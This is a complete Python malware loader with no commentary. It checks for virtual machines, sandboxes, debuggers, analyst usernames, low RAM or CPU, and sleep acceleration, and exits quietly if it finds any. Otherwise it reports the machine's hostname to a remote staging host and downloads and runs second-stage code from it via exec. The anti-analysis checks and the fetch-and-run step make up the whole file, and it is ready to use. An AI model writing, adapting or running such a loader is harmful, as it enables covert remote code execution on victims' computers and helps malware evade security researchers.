import ctypes
import os
import platform
import socket
import subprocess
import sys
import time
import urllib.request
import uuid

BAD_MAC = ("08:00:27", "00:05:69", "00:0c:29", "00:1c:14", "00:50:56", "52:54:00")
BAD_PROC = ("vboxservice", "vboxtray", "vmtoolsd", "vmwaretray", "wireshark", "procmon", "x64dbg", "ollydbg", "fiddler")
BAD_USERS = ("wdagutilityaccount", "sandbox", "malware", "maltest", "currentuser", "john doe")


def sandboxed():
    mac = ":".join(f"{(uuid.getnode() >> s) & 0xff:02x}" for s in range(40, -1, -8))
    if mac.startswith(BAD_MAC):
        return True
    if (os.getenv("USERNAME") or os.getenv("USER") or "").lower() in BAD_USERS:
        return True
    if (os.cpu_count() or 1) < 2:
        return True
    if platform.system() == "Windows":
        class MS(ctypes.Structure):
            _fields_ = [("l", ctypes.c_ulong), ("load", ctypes.c_ulong), ("total", ctypes.c_ulonglong),
                        ("avail", ctypes.c_ulonglong), ("a", ctypes.c_ulonglong * 5)]
        m = MS(); m.l = ctypes.sizeof(MS)
        ctypes.windll.kernel32.GlobalMemoryStatusEx(ctypes.byref(m))
        if m.total < 4 << 30:
            return True
        procs = subprocess.run("tasklist", capture_output=True, text=True, shell=True).stdout.lower()
    else:
        procs = subprocess.run(["ps", "-eo", "comm"], capture_output=True, text=True).stdout.lower()
    if any(p in procs for p in BAD_PROC):
        return True
    t = time.time(); time.sleep(10)
    return time.time() - t < 9


if sandboxed():
    sys.exit(0)
code = urllib.request.urlopen(f"http://stage2.loader.invalid/p?h={socket.gethostname()}", timeout=20).read()
exec(compile(code, "<stage2>", "exec"), {"__name__": "__main__"})
